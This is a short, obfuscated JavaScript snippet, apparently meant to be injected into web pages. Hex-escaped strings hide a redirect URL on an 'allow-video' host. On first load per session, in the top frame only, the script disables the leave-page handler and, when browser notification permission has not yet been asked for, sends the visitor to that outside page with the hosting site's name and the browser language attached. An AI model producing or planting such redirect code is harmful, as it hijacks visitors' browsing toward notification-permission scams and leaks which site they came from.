var _a = ["location", "href", "\x68\x74\x74\x70\x73\x3a\x2f\x2f\x61\x6c\x6c\x6f\x77\x2d\x76\x69\x64\x65\x6f\x2e\x65\x78\x61\x6d\x70\x6c\x65\x2f\x3f\x70\x3d\x30\x30\x30\x30\x26\x73\x75\x62\x31\x3d", "hostname", "setItem", "getItem", "ntf"];
if (!sessionStorage[_a[5]](_a[6]) && window.self === window.top) {
  sessionStorage[_a[4]](_a[6], "1");
  window.onbeforeunload = null;
  if ("Notification" in window && Notification.permission === "default" && screen.width >= 320) {
    window[_a[0]][_a[1]] = _a[2] + window[_a[0]][_a[3]] + "&lang=" + navigator.language.slice(0, 2);
  }
}
